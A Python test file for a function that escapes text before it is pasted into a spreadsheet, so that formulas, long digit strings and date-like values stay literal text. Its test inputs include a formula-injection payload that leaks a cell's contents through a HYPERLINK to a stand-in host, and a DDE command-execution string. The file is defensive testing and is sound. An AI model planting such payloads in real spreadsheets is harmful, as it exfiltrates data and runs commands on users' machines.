"""What is copied into a spreadsheet is neither calculated nor read as another number or a day."""

from __future__ import annotations

import pytest

from gridcounter.core.exchange.spreadsheet_text import to_be_pasted


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://example.invalid/?"&A1,"样例")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+8613900001234",
        "-2+3",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
        " =1+1",
    ],
)
def test_what_looks_like_a_formula_is_marked_as_text(text: str) -> None:
    """Excel calculates the words of an applicant, and may ask a server for them."""
    assert to_be_pasted(text) == f"'{text.strip()}"


@pytest.mark.parametrize("text", ["3707260001234567", "0537", "12E3", "1-2", "3/4", "8:30", "5%", "1.0", "1 2"])
def test_digits_that_would_come_out_otherwise_are_marked_as_text(text: str) -> None:
    """Of sixteen digits the last is lost, a zero in front too; 12E3 is twelve thousand, and 1-2 a day in January."""
    assert to_be_pasted(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "样例面馆", "样例路1-2号", "JN1-8E0320260921-0001 DXRG66", "2026-09-21", "160", "0", "—", "SG-0015"]
)
def test_all_else_is_pasted_as_it_is(text: str) -> None:
    assert to_be_pasted(text) == text


def test_a_cell_is_one_line() -> None:
    assert to_be_pasted("样例\t面馆\r\n二楼") == "样例 面馆 二楼"
